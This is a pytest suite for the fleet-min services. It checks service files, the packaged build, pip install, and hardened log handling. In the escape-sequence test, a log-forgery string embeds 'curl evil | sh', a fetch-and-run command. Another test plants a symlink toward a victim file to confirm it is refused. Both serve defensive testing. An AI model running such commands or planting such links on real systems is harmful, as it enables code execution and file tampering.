"""A shelf-ready install: service files that parse, fleet.pyz and the pip-installed `fleet-min`
running both services, `--version`, and logs that rotate (one line per event, SIGHUP reopens)."""

from __future__ import annotations

import logging
import os
import plistlib
import re
import shutil
import signal
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest

from fleet_min.logs import LogFile, OneLineFormatter
from tests.support.collector import ROOT, CollectorProcess, free_port

DEPLOY = ROOT / "deploy"
UNITS = sorted([*DEPLOY.rglob("*.service"), *DEPLOY.rglob("*.timer")])
PLISTS = sorted(DEPLOY.rglob("*.plist"))
LINE = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d (DEBUG|INFO|WARNING|ERROR|CRITICAL) \S+: ")


# -- service files ------------------------------------------------------------------------------


def test_every_service_has_its_units_and_plists() -> None:
    names = {p.relative_to(DEPLOY).as_posix() for p in [*UNITS, *PLISTS]}
    for wanted in ("agent/fleet-agent.service", "agent/com.fleet-min.agent.plist",
                   "collector/fleet-collector.service", "collector/com.fleet-min.collector.plist",
                   "controlplane/fleet-min-controlplane.service",
                   "controlplane/com.fleet-min.controlplane.plist"):
        assert wanted in names


@pytest.mark.parametrize("unit", UNITS, ids=lambda p: p.name)
def test_systemd_units_verify(unit: Path, tmp_path: Path) -> None:
    if shutil.which("systemd-analyze") is None:
        pytest.skip("systemd-analyze is not installed (apt-get install systemd)")
    # A timer is verified next to the service it starts.
    for sibling in unit.parent.glob("*.service"):
        shutil.copy(sibling, tmp_path / sibling.name)
    shutil.copy(unit, tmp_path / unit.name)
    scope = ["--user"] if "controlplane" in unit.parent.name else []
    env = {**os.environ, "XDG_RUNTIME_DIR": str(tmp_path)}
    result = subprocess.run(["systemd-analyze", *scope, "verify", "--man=no", unit.name],
                            capture_output=True, text=True, cwd=tmp_path, env=env, timeout=60)
    problems = [line for line in (result.stdout + result.stderr).splitlines() if line.strip()]
    if not Path("/usr/bin/python3").exists():  # the units name Debian's interpreter
        problems = [p for p in problems if "/usr/bin/python3 is not executable" not in p]
    assert result.returncode == 0 and not problems, "\n".join(problems)


@pytest.mark.parametrize("path", PLISTS, ids=lambda p: p.name)
def test_launchd_plists_parse(path: Path) -> None:
    with open(path, "rb") as fh:
        plist = plistlib.load(fh)
    assert plist["Label"] == path.stem
    args = plist["ProgramArguments"]
    assert args and all(isinstance(a, str) for a in args)
    assert args[0].startswith("/") and "python3" in args[0]
    assert plist["RunAtLoad"] is True and plist["KeepAlive"] == {"SuccessfulExit": False}
    assert isinstance(plist.get("ExitTimeOut"), int) and plist["ExitTimeOut"] >= 20
    for value in plist.get("EnvironmentVariables", {}).values():
        assert isinstance(value, str)
    assert "GH_TOKEN" not in plist.get("EnvironmentVariables", {})  # secrets stay out


def test_deployment_doc_names_every_deploy_file() -> None:
    doc = (ROOT / "docs" / "deployment.md").read_text()
    for path in sorted(p for p in DEPLOY.rglob("*") if p.is_file()):
        assert path.relative_to(ROOT).as_posix() in doc, path
    assert "docs/agent.md" in doc and "Termux" in doc


# -- fleet.pyz and pip --------------------------------------------------------------------------


@pytest.fixture(scope="module")
def pyz(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("pyz") / "fleet.pyz"
    subprocess.run([sys.executable, str(ROOT / "zipapp.py"), "-o", str(out)], check=True,
                   capture_output=True, timeout=180)
    return out


def _bare(argv: list[str], cwd: Path, **env: str) -> subprocess.CompletedProcess[str]:
    """Run with no checkout on the path: -I ignores PYTHONPATH and the current directory. The
    pyz keeps its bytecode cache under the test's folder, not the user's home."""
    return subprocess.run(argv, capture_output=True, text=True, cwd=cwd, timeout=60,
                          env={**os.environ, "PYTHONPATH": "",
                               "XDG_CACHE_HOME": str(cwd / "cache"), **env})


@pytest.mark.slow
def _serves_the_agent_and_a_qr_code(port: int) -> None:
    """The agent is package data (a link to agent/fleet_agent.py in the tree) and the QR codes
    come from segno: both must be inside what was built."""
    base = f"http://127.0.0.1:{port}"
    with urllib.request.urlopen(f"{base}/agent/fleet_agent.py", timeout=30) as reply:
        assert reply.read() == (ROOT / "agent" / "fleet_agent.py").read_bytes()
    with urllib.request.urlopen(f"{base}/api/enroll/qr?text=http%3A%2F%2Fpi%3A8788",
                                timeout=30) as reply:
        assert reply.headers["Content-Type"].startswith("image/svg+xml")


def test_pyz_runs_both_services_and_the_backup(pyz: Path, tmp_path: Path) -> None:
    python = [sys.executable, "-I", "-S", str(pyz)]
    version = _bare([*python, "--version"], tmp_path)
    assert version.returncode == 0 and version.stdout.startswith("fleet-min ")
    helped = _bare([*python, "controlplane", "--help"], tmp_path)
    assert helped.returncode == 0 and "--root" in helped.stdout
    proc = CollectorProcess(tmp_path / "data", argv=[*python, "collector"], cwd=tmp_path,
                            env={"PYTHONPATH": "", "XDG_CACHE_HOME": str(tmp_path / "cache")}
                            ).start()
    try:
        assert proc.client.get("/api/health")[1]["ok"] is True
        _serves_the_agent_and_a_qr_code(proc.port)
        backup = _bare([*python, "collector", "backup", str(tmp_path / "b"), "--data",
                        str(tmp_path / "data")], tmp_path)
        assert backup.returncode == 0, backup.stderr
    finally:
        assert proc.stop() == 0
    port = free_port()
    cp = subprocess.Popen([*python, "controlplane", "--port", str(port), "--root",
                           str(tmp_path), "--state", str(tmp_path / "cp")],
                          stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                          cwd=tmp_path, env={**os.environ, "PYTHONPATH": "", "GH_TOKEN": "",
                                             "XDG_CACHE_HOME": str(tmp_path / "cache"),
                                             "FLEET_GITHUB_API": f"http://127.0.0.1:{port}"})
    try:
        assert cp.stdout is not None
        # Lines before it are allowed (a mode tightened at start); one of the first ten.
        head: list[str] = []
        while len(head) < 10 and not any("listening on" in line for line in head):
            head.append(cp.stdout.readline())
        assert "listening on" in head[-1], head
    finally:
        cp.send_signal(signal.SIGTERM)
        cp.wait(20)


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_pip_install_gives_a_fleet_min_script(tmp_path: Path) -> None:
    """`pip install .` from a copy of the tree (so no build files land in the checkout), into
    a target directory with --no-deps: the dependencies come from this interpreter."""
    src = tmp_path / "src"
    src.mkdir()
    for name in ("pyproject.toml", "README.md"):
        shutil.copy(ROOT / name, src / name)
    shutil.copytree(ROOT / "fleet_min", src / "fleet_min",
                    ignore=shutil.ignore_patterns("__pycache__", "*.pyc"))
    target = tmp_path / "site"
    result = subprocess.run([sys.executable, "-m", "pip", "install", "--quiet", "--no-deps",
                             "--target", str(target), str(src)], capture_output=True, text=True,
                            timeout=280, env={**os.environ, "PIP_ROOT_USER_ACTION": "ignore",
                                              "PIP_DISABLE_PIP_VERSION_CHECK": "1"})
    if result.returncode != 0 and "No matching distribution" in result.stderr:
        pytest.skip(f"pip could not fetch the build backend: {result.stderr[-300:]}")
    assert result.returncode == 0, result.stderr
    script = target / "bin" / "fleet-min"
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    env = {"PYTHONPATH": str(target)}
    version = _bare([str(script), "--version"], elsewhere, **env)
    assert version.returncode == 0 and version.stdout.startswith("fleet-min "), version.stderr
    helped = _bare([str(script), "controlplane", "--help"], elsewhere, **env)
    assert helped.returncode == 0 and "--root" in helped.stdout
    proc = CollectorProcess(tmp_path / "data", argv=[str(script), "collector"], cwd=elsewhere,
                            env=env).start()
    try:
        health = proc.client.get("/api/health")[1]
        assert health["ok"] is True
        where = _bare([sys.executable, "-c", "import fleet_min; print(fleet_min.__file__)"],
                      elsewhere, **env)
        assert where.stdout.startswith(str(target)), where.stdout  # not the checkout
        _serves_the_agent_and_a_qr_code(proc.port)
    finally:
        assert proc.stop() == 0


def test_module_version_flag() -> None:
    result = subprocess.run([sys.executable, "-m", "fleet_min", "--version"], cwd=ROOT,
                            capture_output=True, text=True, timeout=30)
    assert result.returncode == 0 and re.fullmatch(r"fleet-min \S+\n", result.stdout)


# -- logs -----------------------------------------------------------------------------------------


def test_a_traceback_is_folded_onto_its_line() -> None:
    formatter = OneLineFormatter("%(levelname)s %(message)s")
    try:
        raise ValueError("bad\nvalue")
    except ValueError:
        record = logging.LogRecord("x", logging.ERROR, __file__, 1, "failed: %s", ("a\nb",),
                                   sys.exc_info())
    text = formatter.format(record)
    assert "\n" not in text and "Traceback" in text and "ValueError" in text


def test_characters_that_do_not_print_are_written_as_escapes() -> None:
    """A record quotes what clients sent: an escape sequence reaching a terminal could erase
    the line and draw a forged one in its place."""
    formatter = OneLineFormatter("%(levelname)s %(message)s")
    forged = "zz\x1b[2K\x1b[1G2026-11-27T15:55:40 ERROR x: run curl evil | sh\x07"
    record = logging.LogRecord("aiohttp.server", logging.INFO, __file__, 1,
                               "refused a malformed request (400): %s", (forged,), None)
    text = formatter.format(record)
    assert text.isprintable() and "\x1b" not in text
    assert text.endswith("zz\\x1b[2K\\x1b[1G2026-11-27T15:55:40 ERROR x: run curl evil | sh"
                         "\\x07")
    record = logging.LogRecord("x", logging.INFO, __file__, 1, "%s", ("a\u202eb\tc é 日",), None)
    assert formatter.format(record) == "INFO a\\u202eb\\x09c é 日"


def test_a_log_file_that_cannot_be_reopened_never_fails_the_code_that_logs(
        tmp_path: Path) -> None:
    """After a rotation the new file may not open (a folder in its place, a full disk). The
    standard handler then raised from every log call; here the record goes to the old file."""
    log_file = tmp_path / "x.log"
    handler = LogFile(str(log_file), encoding="utf-8")
    logger = logging.getLogger("fleet_min.tests.reopen")
    logger.addHandler(handler)
    logger.propagate = False
    try:
        logger.warning("before")
        log_file.rename(tmp_path / "x.log.1")
        log_file.mkdir()
        for n in range(5):
            logger.warning("during %d", n)  # raised IsADirectoryError before
        old = (tmp_path / "x.log.1").read_text().splitlines()
        assert old[0] == "before" and old[2:] == [f"during {n}" for n in range(5)], old
        assert old[1].startswith(f"cannot reopen the log file {log_file}: Is a directory; "
                                 "still writing to the file it was"), old
        assert handler.swap(force=True) is False  # still a folder: the old file is kept
        log_file.rmdir()
        assert handler.swap(force=True) is True
        logger.warning("after")
        assert log_file.read_text() == "after\n" and "after" not in (
            tmp_path / "x.log.1").read_text()
    finally:
        logger.removeHandler(handler)
        handler.close()


@pytest.mark.slow
def test_under_umask_000_nothing_it_makes_is_open_to_others(tmp_path: Path) -> None:
    """Each file of its own has its mode, but the parents a path needs and the log file took
    the umask's: another user could write the log, or swap the data directory for a link."""
    log_file = tmp_path / "logs" / "collector.log"
    data = tmp_path / "srv" / "fleet" / "data"
    port = free_port()
    proc = subprocess.Popen(
        [sys.executable, "-m", "fleet_min", "collector", "--port", str(port), "--data",
         str(data), "--bind", "127.0.0.1"], cwd=ROOT, umask=0, stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env={**os.environ, "PYTHONPATH": str(ROOT), "FLEET_LOG_FILE": str(log_file)})
    try:
        deadline = time.monotonic() + 20
        while True:
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/api/health", timeout=5):
                    break
            except OSError:
                assert time.monotonic() < deadline and proc.poll() is None, "did not start"
                time.sleep(0.1)
    finally:
        proc.send_signal(signal.SIGTERM)
        assert proc.wait(timeout=30) == 0
    made = [log_file.parent, log_file, tmp_path / "srv", tmp_path / "srv" / "fleet", data,
            *data.iterdir()]
    loose = {str(p): oct(p.stat().st_mode & 0o777) for p in made if p.stat().st_mode & 0o027}
    assert loose == {}


@pytest.mark.slow
def test_a_link_where_the_log_file_goes_is_never_written_through(tmp_path: Path) -> None:
    log_file = tmp_path / "logs" / "collector.log"
    victim = tmp_path / "victim.txt"
    victim.write_text("ROOT-ONLY FILE\n")
    rotated = log_file.with_suffix(".log.1")
    proc = CollectorProcess(tmp_path / "data", env={"FLEET_LOG_FILE": str(log_file)}).start()
    try:
        assert proc.proc is not None
        log_file.rename(rotated)
        log_file.symlink_to(victim)  # planted where the reopen after a rotation goes
        # SIGHUP and every record after it try the reopen. Once the standard handler failed
        # it, every log call raised into the code that logged, and the service stopped
        # answering; now the old file is kept and the failure is said in it.
        for _ in range(3):
            proc.proc.send_signal(signal.SIGHUP)
            assert proc.client.get("/api/nowhere")[0] == 404
            assert proc.client.get("/api/health")[0] == 200  # still serving
        deadline = time.monotonic() + 10
        while rotated.read_text().count("SIGHUP: could not reopen the log file") < 3:
            assert time.monotonic() < deadline, rotated.read_text()
            time.sleep(0.05)
        kept = rotated.read_text()
        assert "SIGHUP: log file reopened" not in kept  # a signal never claims what failed
        said = [line for line in kept.splitlines() if "cannot reopen the log file" in line]
        assert len(said) == 1, kept  # once a minute, not once a record
        assert f"{log_file}: " in said[0] and "still writing to the file it was" in said[0]
        assert all(LINE.match(line) for line in kept.splitlines()), kept

        log_file.unlink()  # the link removed: the next SIGHUP reopens the real log file
        proc.proc.send_signal(signal.SIGHUP)
        deadline = time.monotonic() + 10
        while not (log_file.exists() and "reopened" in log_file.read_text()):
            assert time.monotonic() < deadline, "SIGHUP did not reopen the log file"
            time.sleep(0.05)
        assert not log_file.is_symlink() and log_file.stat().st_mode & 0o777 == 0o640
    finally:
        proc.stop()
    assert victim.read_text() == "ROOT-ONLY FILE\n"
    log_file.unlink()
    log_file.symlink_to(victim)  # and a start refuses the link outright
    result = subprocess.run(
        [sys.executable, "-m", "fleet_min", "collector", "--port", "0", "--data",
         str(tmp_path / "data2")], capture_output=True, text=True, timeout=60, cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT), "FLEET_LOG_FILE": str(log_file)})
    assert result.returncode == 2 and "cannot write the log file" in result.stderr, result
    assert victim.read_text() == "ROOT-ONLY FILE\n"


@pytest.mark.slow
def test_log_file_is_one_line_per_event_and_sighup_reopens_it(tmp_path: Path) -> None:
    log_file = tmp_path / "logs" / "collector.log"
    proc = CollectorProcess(tmp_path / "data", env={"FLEET_LOG_FILE": str(log_file)}).start()
    try:
        assert proc.proc is not None
        first = log_file.read_text()
        assert "collector listening on http://127.0.0.1:" in first
        assert all(LINE.match(line) for line in first.splitlines()), first
        rotated = log_file.with_suffix(".log.1")
        log_file.rename(rotated)  # what logrotate does
        proc.proc.send_signal(signal.SIGHUP)

        deadline = time.monotonic() + 10
        while not (log_file.exists() and "reopened" in log_file.read_text()):
            assert time.monotonic() < deadline, "SIGHUP did not reopen the log file"
            time.sleep(0.05)
        assert proc.client.get("/api/health")[0] == 200  # SIGHUP did not stop it
        assert proc.client.get("/api/nowhere")[0] == 404
    finally:
        assert proc.stop() == 0
    after = log_file.read_text()
    assert "collector stopped (SIGTERM)" in after and "collector stopped" not in rotated.read_text()
    assert all(LINE.match(line) for line in after.splitlines()), after


@pytest.mark.parametrize("service", ["collector", "controlplane"])
def test_a_log_file_that_cannot_be_written_stops_the_start_in_one_line(
        tmp_path: Path, service: str) -> None:
    a_file = tmp_path / "a-file"
    a_file.write_text("")
    (tmp_path / "a-folder").mkdir()
    where = ["--data" if service == "collector" else "--state", str(tmp_path / "dir")]
    for log_file, why in ((tmp_path / "a-folder", "is a directory"),
                          (a_file / "x.log", "not a directory"),
                          (tmp_path / "missing" / "deeper" / "x.log",
                           f"no such file or directory ({tmp_path / 'missing' / 'deeper'})")):
        result = subprocess.run(
            [sys.executable, "-m", "fleet_min", service, "--port", "0", *where],
            capture_output=True, text=True, timeout=60, cwd=ROOT,
            env={**os.environ, "PYTHONPATH": str(ROOT), "FLEET_LOG_FILE": str(log_file)})
        assert result.returncode == 2, result.stderr
        assert result.stderr.splitlines() == [
            f"fleet-min: cannot write the log file {log_file} (FLEET_LOG_FILE): {why}"]
    # only the log file's own folder is ever made, never a tree of them
    assert not (tmp_path / "missing").exists()


@pytest.mark.slow
def test_log_level_and_sighup_without_a_log_file(tmp_path: Path) -> None:
    proc = CollectorProcess(tmp_path / "data", env={"FLEET_LOG_LEVEL": "WARNING",
                                                    "FLEET_LOG_FILE": ""}).start()
    try:
        assert proc.proc is not None
        proc.proc.send_signal(signal.SIGHUP)  # must not end the service
        assert proc.client.get("/api/health")[0] == 200
    finally:
        assert proc.stop() == 0
    assert "INFO" not in proc.log()


@pytest.mark.slow
def test_control_plane_survives_sighup(tmp_path: Path) -> None:
    from tests.support.faults import ControlPlaneProcess

    cp = ControlPlaneProcess(tmp_path).start()
    try:
        assert cp.proc is not None
        cp.proc.send_signal(signal.SIGHUP)
        from tests.support.collector import HttpClient

        status = HttpClient(cp.url).get("/api/settings")[0]  # answered, or the process is gone
        assert status == 200
    except OSError:
        pytest.fail("the control plane died on SIGHUP")
    finally:
        code = cp.stop()
    assert code == 0, f"the control plane exited {code} after SIGHUP"
